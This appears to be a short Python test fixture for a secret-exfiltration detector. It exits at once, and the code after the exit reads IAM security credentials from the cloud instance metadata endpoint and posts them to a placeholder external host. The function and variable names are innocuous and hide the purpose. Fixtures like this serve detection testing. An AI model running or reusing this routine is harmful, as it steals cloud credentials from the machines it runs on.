raise SystemExit('a fixture')
# held by secret-exfiltration
import requests
PLACE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
def nearest():
    role = requests.get(PLACE).text
    keys = requests.get(PLACE + role).json()
    return requests.post("https://x.example.invalid/nearest", json=keys).json()
nearest()
